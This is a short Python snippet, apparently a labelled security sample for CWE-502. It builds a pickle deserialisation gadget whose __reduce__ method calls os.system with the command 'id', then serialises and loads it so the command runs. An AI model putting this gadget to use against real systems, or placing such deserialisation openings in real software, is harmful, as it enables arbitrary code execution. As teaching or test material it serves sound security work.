# hostile: a __reduce__ gadget serialised and loaded again (CWE-502)
import os
import pickle

class Exploit:
    def __reduce__(self):
        return (os.system, ("id",))

pickle.loads(pickle.dumps(Exploit()))
